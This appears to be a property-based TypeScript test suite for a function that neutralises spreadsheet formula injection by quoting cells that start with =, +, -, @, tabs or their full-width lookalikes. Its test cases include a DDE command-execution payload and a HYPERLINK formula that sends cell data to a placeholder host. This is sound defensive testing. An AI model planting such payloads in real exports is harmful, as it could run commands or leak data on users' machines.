import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { looksLikeSpreadsheetFormula, neutraliseSpreadsheetFormula } from './formula-injection';

describe('neutraliseSpreadsheetFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://example.invalid/?"&A1,"Abrir")',
      `'=HYPERLINK("http://example.invalid/?"&A1,"Abrir")`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+A1', "'+A1"],
    ['-2+3', "'-2+3"],
    ['- lista de la compra', "'- lista de la compra"],
    ['\t=1+1', "'\t=1+1"],
    ['\tHola', "'\tHola"],
    ['\r\nHola', "'\r\nHola"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
  ])('prefixes %j, which a spreadsheet would evaluate', (cell, expected) => {
    expect(neutraliseSpreadsheetFormula(cell)).toBe(expected);
    expect(looksLikeSpreadsheetFormula(cell)).toBe(true);
  });

  it.each([['  =1+1'], ['\n=1+1'], ['\u00A0@SUM(A1)']])(
    'prefixes %j: importers may trim the leading whitespace before evaluating',
    (cell) => {
      expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each([['+44 7700 900123'], ['+447700900123'], ['+34 600 000 000']])(
    'prefixes the phone number %j so Excel keeps it as text instead of a formula',
    (cell) => {
      expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each([['-12'], ['-12.5'], ['-12,5'], [' -3']])(
    'leaves the plain negative number %j alone: it is a constant, not a formula',
    (cell) => {
      expect(neutraliseSpreadsheetFormula(cell)).toBe(cell);
      expect(looksLikeSpreadsheetFormula(cell)).toBe(false);
    },
  );

  it.each([
    [''],
    ['Hola, ¿qué tal?'],
    ['07700 900123'],
    ['12/03/2023 14:05'],
    ['a=b'],
    ["'=1+1"],
    ['\u200E=1+1'],
    ['مرحبا'],
  ])('leaves %j unchanged', (cell) => {
    expect(neutraliseSpreadsheetFormula(cell)).toBe(cell);
  });

  it('never removes or alters text: the output is the input, possibly after one quote', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (cell) => {
        const result = neutraliseSpreadsheetFormula(cell);
        expect(result === cell || result === `'${cell}`).toBe(true);
      }),
    );
  });

  it('never lets a cell through that starts with a formula trigger, except a plain negative number', () => {
    const visibleTrigger = fc.constantFrom('=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');
    const space = fc.string({
      maxLength: 3,
      unit: fc.constantFrom(' ', '\n', '\u00A0', '\u2007', '\u202F', '\uFEFF', '\u3000', '\u2028'),
    });
    fc.assert(
      fc.property(space, visibleTrigger, fc.string(), (leading, first, rest) => {
        const cell = `${leading}${first}${rest}`;
        const plainNegativeNumber = /^-\d+(?:[.,]\d+)?$/.test(`${first}${rest}`);
        expect(neutraliseSpreadsheetFormula(cell).startsWith("'")).toBe(!plainNegativeNumber);
      }),
    );
    fc.assert(
      fc.property(fc.constantFrom('\t', '\r'), fc.string(), (first, rest) => {
        expect(neutraliseSpreadsheetFormula(`${first}${rest}`)).toBe(`'${first}${rest}`);
      }),
    );
  });

  it('is idempotent on its own output', () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        const once = neutraliseSpreadsheetFormula(cell);
        expect(neutraliseSpreadsheetFormula(once)).toBe(once);
      }),
    );
  });
});
